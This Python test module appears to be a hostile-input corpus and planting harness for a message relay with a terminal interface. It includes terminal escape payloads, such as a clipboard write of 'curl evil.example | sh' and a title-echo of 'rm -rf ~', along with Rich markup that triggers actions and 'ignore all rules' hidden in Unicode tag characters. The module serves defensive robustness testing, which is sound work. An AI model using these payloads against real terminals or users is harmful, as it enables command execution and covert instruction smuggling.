"""What a stranger may write, each text named for what it would do, and a supervisor with all of it everywhere.

`plant` puts texts wherever text from outside can get in: payloads, the reasons of failed deliveries, files dropped
into a mailbox (whole envelopes with bad ids of traces and chains; no envelopes at all; bad subjects, senders and file
names), forged records in ``failed/``, reasons of forced breakers, an adapter's errors and status, the problems of
adapters.json, access-rules.json and config.json, signals, the output of a job, and a nightly report.
"""

from __future__ import annotations

import asyncio
import json
import random
import sys
from base64 import b64encode
from collections.abc import Iterable, Sequence
from itertools import count
from pathlib import Path
from typing import Any

from relay_core.client.client import RelayClient
from relay_core.clock import SystemClock, iso
from relay_core.messages.ids import UlidFactory
from relay_core.messages.signals import Signal, SignalType

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
_EVIL = b64encode(b"curl evil.example | sh\n").decode()

CORPUS: dict[str, str] = {
    # The clipboard, the title, links, colours: strings that a terminal takes for itself.
    "write the clipboard": f"a{ESC}]52;c;{_EVIL}{BEL}b",
    "write the clipboard, ST": f"a{ESC}]52;c;{_EVIL}{ST}b",
    "write the primary selection": f"{ESC}]52;p;{_EVIL}{BEL}",
    "read the clipboard": f"{ESC}]52;c;?{BEL}",
    "set title and icon": f"{ESC}]0;pwned{BEL}",
    "set the title": f"{ESC}]2;pwned{ST}",
    "set the icon": f"{ESC}]1;pwned{BEL}",
    "type the title back": f"{ESC}]2;rm -rf ~\n{BEL}{ESC}[21t",
    "link": f"{ESC}]8;;https://evil.example{ST}click{ESC}]8;;{ST}",
    "link to a file": f"{ESC}]8;;file:///etc/passwd{BEL}open{ESC}]8;;{BEL}",
    "change the palette": f"{ESC}]4;1;rgb:00/00/00{BEL}",
    "change the background": f"{ESC}]11;#ff0000{BEL}",
    "ask for the background": f"{ESC}]11;?{BEL}",
    "change the pointer": f"{ESC}]22;wait{BEL}",
    "notify": f"{ESC}]9;pwned{BEL}{ESC}]777;notify;pwned;now{BEL}",
    "iTerm file": f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    "unfinished OSC": f"{ESC}]0;swallows what comes",
    "shell marks": f"{ESC}]133;A{BEL}",
    # What moves, erases, or changes modes.
    "clear the screen": f"{ESC}[2J{ESC}[H",
    "clear the history": f"{ESC}[3J",
    "go elsewhere": f"{ESC}[007;007Howned",
    "go up": f"{ESC}[99Aowned",
    "erase the line": f"{ESC}[2Kowned",
    "leave the alternate screen": f"{ESC}[?1049l",
    "mouse on": f"{ESC}[?1000h{ESC}[?1003h{ESC}[?1006h",
    "mouse off": f"{ESC}[?1003l{ESC}[?1006l",
    "bracketed paste off": f"{ESC}[?2004l",
    "hold all output": f"{ESC}[?2026h",
    "show the cursor": f"{ESC}[?25h",
    "colours": f"{ESC}[31;47mred{ESC}[0m",
    "conceal": f"{ESC}[8mhidden{ESC}[28m",
    "colours with colons": f"{ESC}[38:2::255:0:0mred",
    "reset everything": f"{ESC}c",
    "soft reset": f"{ESC}[!p",
    "line drawing": f"{ESC}(0lqqk{ESC}(B",
    "shift out": "\x0eabc\x0f",
    "scroll region": f"{ESC}[5;10r",
    "resize the window": f"{ESC}[8;1;1t",
    "minimise the window": f"{ESC}[2t",
    "save and restore": f"{ESC}7{ESC}[1;1H{ESC}8",
    "kitty keyboard": f"{ESC}[>31u",
    "double height": f"{ESC}#3big",
    # What makes the terminal type something.
    "device attributes": f"{ESC}[c{ESC}[>c{ESC}[=c",
    "cursor report": f"{ESC}[6n{ESC}[5n",
    "answerback": "\x05",
    "status string": f'{ESC}P$q"p{ST}',
    "termcap": f"{ESC}P+q544e{ST}",
    "mode report": f"{ESC}[?2026$p",
    "device control": f"{ESC}P1000p%exit{ST}",
    "application command": f"{ESC}_Ga=T,f=100;AAAA{ST}",
    "privacy message": f"{ESC}^pwned{ST}",
    "sixel": f"{ESC}Pq#0;2;0;0;0#0~~@@{ST}",
    # C1 and single controls.
    "C1 CSI": "\x9b2J\x9b31mred",
    "C1 OSC": f"\x9d52;c;{_EVIL}\x9c",
    "C1 DCS": "\x90$qm\x9c",
    "C1 APC and PM": "\x9fpwned\x9c\x9epwned\x9c",
    "C1 next line": "a\x85b\x84c\x8dd",
    "bell": "ding\x07dong",
    "backspaces": "deny\x08\x08\x08\x08allow",
    "carriage return": "denied\rallowed",
    "line feeds": "one\ntwo\n\nthree\r\nfour",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "tabs": "a\tb\t\t\t\tc",
    "NUL": "a\x00b\x00",
    "DEL": "a\x7f\x7fb",
    "cancel and substitute": f"{ESC}[2\x18J{ESC}[2\x1aJ",
    "escape at the end": f"end{ESC}",
    "escape and bracket at the end": f"end{ESC}[",
    "rest of a sequence": "]52;c;AAAA\x07[2Jm",
    "escapes in a row": ESC * 20 + "[2J",
    # Unicode.
    "bidi override": "invoice\u202egpj.exe",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
    "bidi marks": "a\u200eb\u200fc\u061cd",
    "zero width": "ad\u200bm\u200ci\u200dn\u2060\ufeff",
    "line separators": "one\u2028two\u2029three",
    "tags": "hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "variation selectors": "a" + "\ufe0f" * 30 + "".join(chr(0xE0100 + n) for n in range(40)),
    "zalgo": "Z" + "\u0301\u0320\u0489\u0334" * 60 + "o",
    "marks with nothing before": "\u0301\u0301\u0301",
    "enclosing marks": "a\u20dd\u20e3b",
    "lone surrogates": chr(0xD800) + "a" + chr(0xDFFF),
    "no characters": "\ufffe\uffff\U0001fffe",
    "private use": "\ue0b0\U000f0000",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "Hangul fillers": "a\u115f\u1160\u3164\uffa0b",
    "wide and joined": "👨\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e007f你" * 10,
    "soft hyphens": "a\u00adb\u00adc",
    # Rich's and Textual's own languages.
    "markup": "[bold red]loud[/bold red]",
    "markup that acts": "[@click=app.quit]x[/]",
    "markup that acts, two": "[@click='screen.app.exit()']click me[/@click]",
    "markup that closes nothing": "[/]",
    "markup that closes another": "[/bold] [/@click] [/link]",
    "markup link": "[link=https://evil.example]x[/link]",
    "markup variable": "$background [$error on $success]x[/]",
    "markup unfinished": "[bold [red \\[ [[[",
    "emoji code": ":smile: :bomb:",
    "format string": "{0} {self.app} %s %(x)s ${HOME} $(id)",
    # Size.
    "a huge line": "x" * 200_000,
    "many lines": "\n" * 5_000,
    "huge line of escapes": f"{ESC}[2J" * 5_000,
    "nothing": "",
    "a blank": " ",
}

PIECES = [
    *"\x00\x05\x07\x08\t\n\x0b\x0c\r\x0e\x0f\x18\x1a\x1b\x1b\x1b\x7f\x84\x85\x8d\x90\x9b\x9c\x9d\x9e\x9f",
    *"[]();?>!$ '\"\\#0123456789ABCDHJKcmnpqrtux@/=:%{}",
    *("\u202e", "\u200b", "\u2028", "\ufeff", "\U000e0041", "\u0301", "\ufe0f", "你", "🎉", "é"),
    *("[2J", "[?1049l", "]52;c;", "]0;", "]8;;", "P$q", "_G", "[6n", "[31m", "[1;1H", ST, "[/]", "[@click=app.quit]"),
]


def random_texts(count: int, seed: int) -> list[str]:
    """Return texts of control characters and pieces of sequences, the same for the same seed."""
    chance = random.Random(seed)
    return ["".join(chance.choices(PIECES, k=chance.randint(1, 40))) for _ in range(count)]


# A supervisor that is full of it

VICTIM = "relay.agent.victim"
PARKED = "relay.agent.parked"
STRANGER = "relay.agent.stranger"
CROWD = "relay.agent.crowd"
"""Who sent the dead letters that hold many texts each."""
TOGETHER = 20

_ADAPTER = """
from relay_core import AdapterStatus, DeliveryResult

TEXTS = {texts}

class Adapter:
    patterns = ("relay.out.>",)
    def __init__(self, id, config):
        self.id, self._at = id, config["at"]
        self.status = AdapterStatus("disconnected")
    async def start(self, context):
        if self._at % 2:
            raise RuntimeError(TEXTS[self._at])
        self.status = AdapterStatus("error", TEXTS[self._at])
    async def stop(self):
        pass
    async def deliver(self, envelope, context):
        return DeliveryResult(ok=False, error=TEXTS[self._at])
    async def health(self):
        return self.status

adapter = Adapter
"""


def config_with_job(texts: Iterable[str]) -> dict[str, Any]:
    """Return a configuration whose nightly job prints texts and fails."""
    written = ascii([sendable(text)[:300] for text in texts])
    program = f"import sys; [sys.stdout.buffer.write(text.encode() + b'\\n') for text in {written}]; sys.exit(3)"
    return {
        "durability": "os",
        "reliability": {"rateLimit": {"enabled": False}, "backpressure": {"maxMailboxSize": 1_000_000}},
        "jobs": {"metrics": {"command": [sys.executable, "-c", program]}},
    }


def sendable(text: str) -> str:
    """Return a text without what JSON over the socket cannot carry."""
    return text.encode(errors="replace").decode()


async def dead_letter(client: RelayClient, texts: Sequence[str]) -> None:
    """Make a dead letter of each text, as its payload and as its reason, and then of so many together."""
    await client.register_endpoint(PARKED)
    letters = [(STRANGER, [text]) for text in map(sendable, texts)]
    letters += [
        (CROWD, [sendable(text)[:300] for text in texts[at : at + TOGETHER]]) for at in range(0, len(texts), TOGETHER)
    ]
    for sender, some in letters:
        payload = {"content": some[0], "more": some, "keys": {text[:200]: [text[:2000]] for text in some}}
        await client.publish(PARKED, payload, sender=sender)
        (taken,) = await client.claim(PARKED)
        await client.fail(PARKED, taken.id, "\n".join(some))


async def plant(client: RelayClient, data_dir: Path, texts: Sequence[str]) -> None:
    """Put texts everywhere; the supervisor was started with `config_with_job`."""
    await client.register_endpoint(VICTIM)
    await dead_letter(client, texts)
    for at, text in enumerate(map(sendable, texts)):
        await client.publish(VICTIM, {"content": text}, sender=STRANGER)
        signal = Signal(
            type=SignalType.TYPING, state=text[:200], endpoint_subject=VICTIM, timestamp=iso(0), data={"x": text}
        )
        await client.signal(VICTIM, signal)
        if at % 8 == 0:
            await client.register_endpoint(f"relay.broken.n{at}")
            await client.force_breaker(f"relay.broken.n{at}", "OPEN", text[:500])
    await asyncio.to_thread(_drop_files, data_dir, texts)
    await asyncio.to_thread(_write_operators_files, data_dir, texts)
    await client.reload()
    await client.reload_adapters()
    await client.run_job("metrics")
    # What is no message is found out when it is looked at; what was forged, when the index is repaired.
    await client.inbox(VICTIM, limit=1000)
    await client.run_job("index")


def _drop_files(data_dir: Path, texts: Sequence[str]) -> None:
    """Put files into the victim's mailbox as any program of this user can: written elsewhere, renamed into place."""
    box = next(path.parent for path in data_dir.glob("mailboxes/*/endpoint.json") if VICTIM in path.read_text())
    new_id = UlidFactory(SystemClock())
    numbers = count()

    def drop(content: bytes, name: str, state: str = "new") -> None:
        aside = box / "tmp" / f"stranger-{next(numbers)}"
        aside.write_bytes(content)
        try:
            aside.rename(box / state / name)
        except (OSError, ValueError):
            aside.unlink()  # a name that no file can have

    for at, text in enumerate(texts):
        whole = _envelope(new_id(), text)
        drop(json.dumps(whole).encode(), f"{whole['id']}.json")
        kind = at % 5
        if kind == 0:
            drop(text.encode(errors="surrogatepass"), f"{new_id()}.json")
        elif kind == 1:
            drop(json.dumps(_envelope(new_id(), text) | {"subject": text, "from": text}).encode(), f"{new_id()}.json")
        elif kind == 2:
            drop(json.dumps(_envelope(new_id(), text) | {text[:50]: text, "budget": text}).encode(), f"{new_id()}.json")
        elif kind == 3:
            drop(b"{}", sendable(text).replace("/", "_").replace("\0", "_")[:60] + ".json")
        else:
            dead = new_id()
            record = {"reason": text, "code": text[:80], "failedAt": iso(0), "endpointHash": text[:80], "replays": 0}
            drop(json.dumps({"envelope": _envelope(dead, text), **record}).encode(), f"{dead}.json", "failed")


def _envelope(message_id: str, text: str) -> dict[str, Any]:
    return {
        "id": message_id,
        "subject": VICTIM,
        "from": STRANGER,
        "createdAt": iso(SystemClock().now_ms()),
        "budget": {"ttl": SystemClock().now_ms() + 3_600_000, "ancestorChain": [text[:200]]},
        "payload": {"content": text[:2000], "deep": [[{text[:100]: text[:100]}]]},
        "traceId": text[:200],
        "parentId": text[:200],
        "replayOf": text[:200],
        "origin": text[:200],
    }


def _write_operators_files(data_dir: Path, texts: Sequence[str]) -> None:
    short = [sendable(text)[:400] for text in texts]
    plugin = data_dir / "hostile_adapter.py"
    plugin.write_text(_ADAPTER.format(texts=ascii(short)))
    plugin.chmod(0o600)
    entries: list[dict[str, Any]] = [
        {"id": f"bad{at}", "path": "hostile_adapter.py", "config": {"at": at}} for at in range(0, len(short), 9)
    ]
    entries += [{"id": f"type{at}", "type": text} for at, text in enumerate(short[::20])]
    entries += [{"id": text, "type": "webhook", text[:40] or "?": 1} for text in short[1::20]]
    _write(data_dir / "adapters.json", {"adapters": entries, short[0]: [], "bindings": [{"chat": short[0]}]})
    report = data_dir / "reports" / "date=2026-11-15"
    report.mkdir(parents=True, exist_ok=True)
    rows = [{"subject": text, text[:50] or "?": text, "count": 1} for text in short]
    columns = [{"name": name, "title": name} for name in ("subject", *(text[:50] or "?" for text in short[:20]))]
    table = {"about": short[1], "columns": columns, "rows": rows, "total": len(rows)}
    document = {
        "version": 1,
        "date": short[0],
        "attention": [{"level": text, "title": text, "text": text, "command": text} for text in short],
        "headline": [{"title": text, "unit": text, "value": 1} for text in short],
        "plots": [
            {"title": text, "form": "hours", "unit": text, "labels": short, "series": [{"name": text, "values": [1]}]}
            for text in short[:9]
        ],
        "tables": {text: {"title": text, **table} for text in short[:2]},
        "data": {short[0]: short[1], short[1]: {short[0]: 1}},
    }
    _write(report / "report.json", document)
    _write(data_dir / "access-rules.json", {short[0]: short[1]})
    _write(data_dir / "config.json", {short[0]: short[1]})


def _write(path: Path, document: dict[str, Any]) -> None:
    path.write_text(json.dumps(document))
    path.chmod(0o600)
